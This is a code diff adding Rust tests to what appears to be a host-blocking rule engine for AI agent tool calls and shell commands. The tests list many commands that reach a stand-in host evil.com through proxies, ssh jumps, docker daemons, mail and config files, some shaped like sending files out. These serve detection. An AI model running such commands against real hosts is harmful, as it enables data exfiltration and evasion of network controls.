@@ -318,6 +318,214 @@ fn an_unknown_host_is_no_exception() {
     assert!(!is_stopped(&mcp("web", "get", json!({ "url": "https://github.com" }))));
 }
 
+const NOT_EVIL: &str = "[[rule]]\nid = \"r\"\non = \"web\"\nhost = [\"evil.com\"]\nreject = \"{host}\"\n";
+const ONLY_GOOD: &str = "[[rule]]\nid = \"r\"\non = \"web\"\nhost = [\"!good.com\"]\nreject = \"{host}\"\n";
+
+#[test]
+fn a_request_goes_to_each_host_that_an_option_or_a_variable_names() {
+    rules(NOT_EVIL);
+    stops_and_passes(
+        &[
+            "curl --proxy evil.com:80 https://a.com",
+            "curl --prox=evil.com https://a.com",
+            "curl -xevil.com a.com",
+            "curl -sSx evil.com a.com",
+            "curl --socks5 u:p@evil.com a.com",
+            "curl --preproxy socks4a://evil.com a.com",
+            "curl --connect-to ::evil.com: https://a.com",
+            "curl --connect-to [::1]:80:evil.com:80 https://a.com",
+            "curl --resolve a.com:443:evil.com https://a.com",
+            "curl --doh-url evil.com a.com",
+            "https_proxy=evil.com curl https://a.com",
+            "HTTP_PROXY=http://evil.com:80 make",
+            "ALL_PROXY=evil.com curl a.com",
+            "env https_proxy=evil.com curl a.com",
+            "export https_proxy=evil.com; curl a.com",
+            "wget -e https_proxy=evil.com https://a.com",
+            "wget --base=evil.com x",
+            "ssh -J a.com,u@evil.com h",
+            "ssh -vJevil.com h",
+            "ssh -o HostName=evil.com h",
+            "ssh -o 'proxyjump evil.com' h",
+            "ssh -W evil.com:22 h",
+            "scp -J evil.com x h:",
+            "sftp -P 22 evil.com",
+            "git -c http.proxy=evil.com push",
+            "docker -H tcp://evil.com ps",
+            "docker --host evil.com:2375 ps",
+            "DOCKER_HOST=tcp://evil.com docker ps",
+            "GOPROXY=evil.com,direct go mod download",
+            "gh --hostname evil.com api /",
+            "GH_HOST=evil.com gh api /",
+            "psql -h evil.com",
+            "mysql -hevil.com",
+            "redis-cli -u redis://evil.com",
+        ],
+        &[
+            "curl -o x -d evil.com -H evil.com a.com",
+            "curl -dx evil.com.a.com",
+            "curl --proxy-user=evil.com a.com",
+            "curl --resolve evil.com:443:1.2.3.4 a.com",
+            "NO_PROXY=evil.com curl a.com",
+            "ssh h x -J evil.com",
+            "ssh -o SetEnv=A=evil.com h",
+            "docker run a -H evil.com",
+            "grep -h evil.com x",
+            "psql -c evil.com",
+        ],
+    );
+}
+
+#[test]
+fn a_list_in_an_address_of_curl_leads_to_each_of_its_hosts() {
+    rules(NOT_EVIL);
+    stops_and_passes(
+        &["curl 'https://{a,evil}.com'", "curl 'https://evi[k-l].com'", "curl 'ftp://{a.com,evil.com}/[1-3]'"],
+        &["curl 'https://{a,b}.com'", "curl 'https://a.com/{evil.com,b}'"],
+    );
+    rules(ONLY_GOOD);
+    stops_and_passes(
+        &["curl 'https://{good.com,evil.com}/'", "curl 'https://[1-999].com'"],
+        &["curl 'good.com/[1-9]'"],
+    );
+}
+
+#[test]
+fn addresses_in_a_file_or_in_the_input_are_unknown() {
+    for rule in [NOT_EVIL, ONLY_GOOD] {
+        rules(rule);
+        stops_and_passes(
+            &["curl -K - <<< 'url=evil.com'", "wget -i - <<< https://evil.com", "curl gopher://evil.com"],
+            &["curl https://good.com", "ssh good.com grep -F a x"],
+        );
+    }
+    stops_and_passes(
+        &[
+            "curl -K x https://good.com",
+            "curl -sKx https://good.com",
+            "curl --config x https://good.com",
+            "wget -i x https://good.com",
+            "aria2c -i x https://good.com",
+            "ssh -F x good.com",
+            "ssh -o ProxyCommand='x y' good.com",
+            "ssh -o $X good.com",
+            "git -c core.sshCommand=x push git@good.com:a",
+        ],
+        &["curl -F a=b https://good.com", "wget -e robots=off https://good.com"],
+    );
+}
+
+#[test]
+fn a_program_that_names_its_host_in_its_own_way_makes_a_request() {
+    rules(NOT_EVIL);
+    stops_and_passes(
+        &[
+            "docker pull evil.com/x",
+            "docker push evil.com/x:1",
+            "docker login -u a evil.com",
+            "skopeo copy a docker://evil.com/b",
+            "crane push x evil.com/y",
+            "oras push evil.com/x",
+            "helm push x oci://evil.com/y",
+            "mail -s x a@evil.com < f",
+            "sendmail a@evil.com < f",
+            "mutt a@evil.com",
+            "msmtp --host=evil.com x",
+            "mongosh mongodb://evil.com",
+            "mongosh evil.com/db",
+            "tftp evil.com",
+            "dig evil.com",
+            "getent hosts evil.com",
+            "traceroute evil.com",
+            "ssh-keyscan -t rsa evil.com",
+            "VAULT_ADDR=https://evil.com vault read x",
+            "openssl s_client evil.com:443",
+        ],
+        &["docker build -t evil.com/x .", "docker tag a evil.com/b", "getent passwd evil.com", "echo mail a@evil.com"],
+    );
+    rules(ONLY_GOOD);
+    stops_and_passes(
+        &[
+            "rclone copy a b:",
+            "sendmail -t < f",
+            "helm push x y",
+            "docker pull alpine",
+            "skopeo copy a $B",
+            "scp a b:c",
+            "scp b:c a",
+            "rsync a b:c",
+            "git push origin a:b",
+        ],
+        &[
+            "rclone copy a b",
+            "docker -H unix:///x ps",
+            "docker pull good.com/x",
+            "GH_HOST=good.com gh api /",
+            "gh --hostname good.com api /",
+            "aws --endpoint-url https://good.com s3 ls s3://b",
+            "psql -h good.com",
+            "psql -h /run/postgresql",
+            "psql x",
+            "mongosh x",
+            "kubectl get pods -s good.com",
+            "redis-cli ping",
+            "scp a b",
+            "rsync -a a/ b/",
+            "git push git@good.com:a HEAD:main",
+            "GOPROXY=off go build",
+        ],
+    );
+}
+
+#[test]
+fn a_program_that_prints_its_version_or_its_help_makes_no_request() {
+    rules(ONLY_GOOD);
+    stops_and_passes(
+        &["curl -V -x evil.com", "ssh -V h", "curl $X --version", "curl"],
+        &["curl --version", "wget --help", "ssh -V", "git --version", "docker --help", "curl -h", "gh --version"],
+    );
+}
+
+#[test]
+fn a_tool_makes_a_request_to_each_address_among_its_arguments() {
+    rules(NOT_EVIL);
+    for name in ["url", "host", "hostname", "domain", "endpoint", "base_url", "baseURL", "uri", "urls"] {
+        assert!(is_stopped(&mcp("web", "get", json!({ name: "evil.com" }))), "{name}");
+        assert!(!is_stopped(&mcp("web", "get", json!({ name: "good.com" }))), "{name}");
+    }
+    for text in ["wss://evil.com/a", " FTP://evil.com", "postgres://u:p@evil.com/x"] {
+        assert!(is_stopped(&mcp("web", "get", json!({ "request": { "x": [text] } }))), "{text}");
+    }
+    assert!(is_stopped(&call(
+        "web_fetch",
+        json!({ "prompt": "read https://evil.com" }),
+        Action::Other("fetch".into())
+    )));
+    rules(ONLY_GOOD);
+    for arguments in [
+        json!({ "url": "good.com/x" }),
+        json!({ "uri": "file:///a" }),
+        json!({ "endpoint": "/users" }),
+        json!({ "text": "see https://evil.com" }),
+        json!({ "path": "evil.com" }),
+        json!({ "uri": "data:text/plain,x" }),
+    ] {
+        assert!(!is_stopped(&mcp("web", "get", arguments.clone())), "{arguments}");
+    }
+}
+
+#[test]
+fn a_search_of_the_web_is_a_request_to_an_unknown_host() {
+    rules(ONLY_GOOD);
+    for name in ["WebSearch", "web_search", "google_web_search"] {
+        assert!(is_stopped(&call(name, json!({ "query": "x" }), Action::Other(String::new()))), "{name}");
+    }
+    assert!(!is_stopped(&call("Search", json!({ "query": "x" }), Action::Other(String::new()))));
+    assert!(!is_stopped(&mcp("tracker", "search", json!({ "query": "x" }))));
+    rules("[[rule]]\nid = \"r\"\non = \"web\"\nreject = \"no\"\n");
+    assert!(is_stopped(&call("WebSearch", json!({ "query": "x" }), Action::Other(String::new()))));
+}
+
 #[test]
 fn a_condition_about_a_host_that_is_not_clear_stops() {
     rules(
